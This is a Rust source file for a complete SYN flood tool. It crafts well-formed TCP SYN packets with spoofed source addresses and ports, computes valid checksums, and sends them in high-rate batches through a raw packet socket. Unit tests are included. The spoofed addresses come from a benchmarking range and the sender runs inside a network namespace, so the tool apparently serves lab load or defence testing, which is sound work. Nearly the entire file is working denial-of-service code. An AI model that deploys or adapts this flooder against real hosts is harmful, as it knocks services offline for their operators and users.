//! A SYN flooder: spoofed, well-formed connection requests as fast as the kernel takes them.

use std::ffi::CString;
use std::io;
use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use rand_core::{Rng as _, SeedableRng as _};
use rand_pcg::Pcg64;

/// Ethernet (14), IPv4 (20) and TCP (40) headers: the SYN of a Linux client, with all its options.
const FRAME_LENGTH: usize = 74;
const IP: usize = 14;
const TCP: usize = IP + 20;

/// Frames handed to the kernel at a time.
const BATCH: usize = 64;

/// The first source address, 198.18.0.0, of the range for benchmarks (RFC 2544, section C.2.2).
const FIRST_SOURCE: u32 = 0xc612_0000;
/// Bits of the source address that vary: 198.18.0.0/15.
const SOURCE_MASK: u32 = (1 << 17) - 1;

/// What to send.
#[derive(Debug, Clone)]
pub struct Flood {
    /// The interface to send from, in the namespace of the calling thread.
    pub interface: String,
    /// Ethernet source address.
    pub source_mac: [u8; 6],
    /// Ethernet destination address: the next hop's.
    pub destination_mac: [u8; 6],
    /// The port to attack.
    pub destination: SocketAddrV4,
    /// How many packets.
    pub count: u64,
    /// At most this many packets a second; without it as many as the kernel takes.
    pub rate: Option<u64>,
    /// Source addresses and ports one after the other instead of at random.
    pub sequential: bool,
    /// The same seed gives the same packets.
    pub seed: u64,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct FloodReport {
    /// Packets that the kernel took.
    pub sent: u64,
    /// How long it took.
    pub elapsed: Duration,
}

impl FloodReport {
    /// Packets a second.
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64()
    }
}

impl Flood {
    /// Sends the flood from the network namespace that the calling thread is in.
    ///
    /// # Errors
    ///
    /// If there is no such interface, the right to send raw packets is missing, or the interface goes down.
    pub fn run(&self) -> io::Result<FloodReport> {
        let socket = PacketSocket::open(&self.interface)?;
        let mut random = Pcg64::seed_from_u64(self.seed);
        let mut frames = [[0; FRAME_LENGTH]; BATCH];
        let start = Instant::now();
        let mut sent = 0;
        while sent < self.count {
            let batch = usize::try_from(self.count - sent).map_or(BATCH, |left| left.min(BATCH));
            for (offset, frame) in frames[..batch].iter_mut().enumerate() {
                *frame = self.frame(sent + offset as u64, &mut random);
            }
            socket.send_all(&mut frames[..batch])?;
            sent += batch as u64;
            if let Some(rate) = self.rate {
                let due = Duration::from_secs_f64(sent as f64 / rate as f64);
                std::thread::sleep(due.saturating_sub(start.elapsed()));
            }
        }
        Ok(FloodReport { sent, elapsed: start.elapsed() })
    }

    /// The `number`th packet of the flood.
    fn frame(&self, number: u64, random: &mut Pcg64) -> [u8; FRAME_LENGTH] {
        let varying = if self.sequential { number } else { random.next_u64() };
        let address = FIRST_SOURCE | (varying as u32 & SOURCE_MASK);
        let port = 1024 + ((varying >> 17) % (65536 - 1024)) as u16;
        let sequence_number = random.next_u32();

        let mut frame = [0; FRAME_LENGTH];
        let mut put = |at: usize, bytes: &[u8]| frame[at..at + bytes.len()].copy_from_slice(bytes);
        put(0, &self.destination_mac);
        put(6, &self.source_mac);
        put(12, &[0x08, 0x00]);
        // Version 4, header of 20 bytes; total length 60; don't fragment; TTL 64; TCP.
        put(IP, &[0x45, 0, 0, 60]);
        put(IP + 6, &[0x40, 0, 64, 6]);
        put(IP + 12, &address.to_be_bytes());
        put(IP + 16, &self.destination.ip().octets());
        put(TCP, &port.to_be_bytes());
        put(TCP + 2, &self.destination.port().to_be_bytes());
        put(TCP + 4, &sequence_number.to_be_bytes());
        // Header of 40 bytes, SYN, window 64,240.
        put(TCP + 12, &[0xa0, 0x02, 0xfa, 0xf0]);
        // Maximum segment size 1,460; SACK permitted; timestamps (the sequence number serves as clock); window scale 7.
        put(TCP + 20, &[2, 4, 5, 180, 4, 2, 8, 10]);
        put(TCP + 28, &sequence_number.to_be_bytes());
        put(TCP + 36, &[1, 3, 3, 7]);

        let ip_checksum = !sum(&frame[IP..TCP], 0);
        frame[IP + 10..IP + 12].copy_from_slice(&ip_checksum.to_be_bytes());
        // The pseudo-header: both addresses, the protocol (6), the segment's length (40).
        let pseudo_header = sum(&frame[IP + 12..TCP], 6 + 40);
        let tcp_checksum = !sum(&frame[TCP..], pseudo_header);
        frame[TCP + 16..TCP + 18].copy_from_slice(&tcp_checksum.to_be_bytes());
        frame
    }
}

/// The ones' complement sum of 16-bit words (RFC 1071), begun with `start`. All parts here are of even length.
fn sum(bytes: &[u8], start: u16) -> u16 {
    let words = bytes.chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
    let mut sum = u32::from(start) + words.sum::<u32>();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum as u16
}

/// A raw socket bound to one interface, for sending only.
struct PacketSocket(libc::c_int);

impl PacketSocket {
    fn open(interface: &str) -> io::Result<PacketSocket> {
        let name = CString::new(interface)?;
        // SAFETY: the name is a C string that lives through the call.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        let index = i32::try_from(index).ok().filter(|index| *index != 0).ok_or_else(io::Error::last_os_error)?;
        // SAFETY: socket only takes numbers. Protocol 0 keeps the socket from receiving anything.
        let descriptor = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
        if descriptor < 0 {
            return Err(io::Error::last_os_error());
        }
        let socket = PacketSocket(descriptor);
        // SAFETY: sockaddr_ll is plain numbers, for which zero is a value.
        let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        address.sll_family = libc::AF_PACKET as u16;
        address.sll_ifindex = index;
        let length = size_of::<libc::sockaddr_ll>() as libc::socklen_t;
        // SAFETY: the address lives through the call and `length` is its size.
        if unsafe { libc::bind(socket.0, (&raw const address).cast(), length) } != 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(socket)
    }

    /// Sends every frame once, waiting for room where the kernel has none.
    fn send_all(&self, frames: &mut [[u8; FRAME_LENGTH]]) -> io::Result<()> {
        let mut buffers: Vec<libc::iovec> = frames
            .iter_mut()
            .map(|frame| libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: FRAME_LENGTH })
            .collect();
        let mut messages: Vec<libc::mmsghdr> = buffers
            .iter_mut()
            .map(|buffer| {
                // SAFETY: mmsghdr is numbers and pointers, for which zero is a value.
                let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
                message.msg_hdr.msg_iov = buffer;
                message.msg_hdr.msg_iovlen = 1;
                message
            })
            .collect();
        let mut done = 0;
        while done < messages.len() {
            let rest = &mut messages[done..];
            // SAFETY: every message points to one buffer and that to one frame; all of them live through the call.
            let count = unsafe { libc::sendmmsg(self.0, rest.as_mut_ptr(), rest.len() as u32, 0) };
            match usize::try_from(count) {
                Ok(count) => done += count,
                Err(_) => {
                    let error = io::Error::last_os_error();
                    if !matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EINTR | libc::EAGAIN)) {
                        return Err(error);
                    }
                    std::thread::yield_now();
                }
            }
        }
        Ok(())
    }
}

impl Drop for PacketSocket {
    fn drop(&mut self) {
        // SAFETY: the descriptor is this socket's own and is not used after this.
        unsafe { libc::close(self.0) };
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flood(sequential: bool) -> Flood {
        Flood {
            interface: "lo".into(),
            source_mac: [2, 0, 0, 0, 0, 1],
            destination_mac: [2, 0, 0, 0, 0, 2],
            destination: "10.77.0.2:80".parse().unwrap(),
            count: 100,
            rate: None,
            sequential,
            seed: 1,
        }
    }

    #[test]
    fn checksums_add_up() {
        let mut random = Pcg64::seed_from_u64(3);
        for number in 0..1000 {
            let frame = flood(number % 2 == 0).frame(number, &mut random);
            assert_eq!(sum(&frame[IP..TCP], 0), 0xffff);
            assert_eq!(sum(&frame[TCP..], sum(&frame[IP + 12..TCP], 46)), 0xffff);
        }
    }

    #[test]
    fn sources_vary_within_their_range() {
        for sequential in [false, true] {
            let mut random = Pcg64::seed_from_u64(3);
            let mut sources = std::collections::BTreeSet::new();
            for number in 0..1000 {
                let frame = flood(sequential).frame(number, &mut random);
                assert_eq!(frame[IP + 12], 198);
                assert!(matches!(frame[IP + 13], 18 | 19));
                sources.insert(frame[IP + 12..TCP + 2].to_vec());
            }
            assert!(sources.len() > 990, "{}", sources.len());
        }
    }

    #[test]
    fn the_seed_decides_all() {
        let frames = |seed| (0..10).map(|n| flood(false).frame(n, &mut Pcg64::seed_from_u64(seed))).collect::<Vec<_>>();
        assert_eq!(frames(1), frames(1));
        assert_ne!(frames(1), frames(2));
    }

    #[test]
    fn a_missing_interface_is_an_error() {
        let flood = Flood { interface: "no-such-one".into(), ..flood(false) };
        assert!(flood.run().is_err());
    }
}
